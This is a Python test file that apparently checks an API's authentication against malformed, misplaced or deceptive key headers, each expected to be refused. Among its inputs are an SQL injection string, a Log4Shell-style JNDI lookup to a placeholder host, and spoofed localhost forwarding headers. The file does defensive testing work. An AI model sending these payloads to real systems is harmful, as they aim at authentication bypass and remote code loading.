"""Who it claims to be: keys that are none, stand elsewhere, or are made to confuse."""

from tests.api.hostile.case import Case, told

_NONE = told(400, 401, 403)

_LINES = {
    "none": b"",
    "an empty one": b"@KEYNAME@:\r\n",
    "a scheme alone": b"@KEYNAME@: Bearer\r\n",
    "a wrong one": b"@KEYNAME@: wrong\r\n",
    "a wrong one, as a bearer": b"Authorization: Bearer mun_wrong\r\n",
    "one letter more": b"@KEYNAME@: @KEYVALUE@x\r\n",
    "a word more": b"@KEYNAME@: @KEYVALUE@ extra\r\n",
    "a list": b"@KEYNAME@: @KEYVALUE@,@KEYVALUE@\r\n",
    "quoted": b'@KEYNAME@: "@KEYVALUE@"\r\n',
    "in braces": b"@KEYNAME@: {@KEYVALUE@}\r\n",
    "long": b"@KEYNAME@: " + b"a" * 5_000 + b"\r\n",
    "no ASCII": b"@KEYNAME@: \xff\xfe\r\n",
    "a digest": b'Authorization: Digest username="a", response="@KEYVALUE@"\r\n',
    "basic": b"Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n",
    "in a cookie": b"Cookie: token=@KEYVALUE@; @KEYNAME@=@KEYVALUE@\r\n",
    "for a proxy": b"Proxy-Authorization: @KEYVALUE@\r\n",
    "under another name": b"X-Auth-Token: @KEYVALUE@\r\n",
    "forwarded": b"X-Forwarded-Authorization: @KEYVALUE@\r\nX-Original-URL: @PATH@\r\n",
    "a claim to be here": b"X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n",
    "an injection": b"@KEYNAME@: ' OR '1'='1\r\n",
    "a template": b"@KEYNAME@: ${jndi:ldap://evil.example}\r\n",
    "a pattern": b"@KEYNAME@: %\r\n",
}

CASES = (
    *(Case(f"key: {name}", _NONE, key=line) for name, line in _LINES.items()),
    *(
        Case(
            f"key in the query: {name.decode()}",
            _NONE,
            line=b"POST @PATH@?" + name + b"=@KEYVALUE@ HTTP/1.1\r\n",
            key=b"",
        )
        for name in (b"key", b"api_key", b"token", b"access_token", b"authorization")
    ),
)
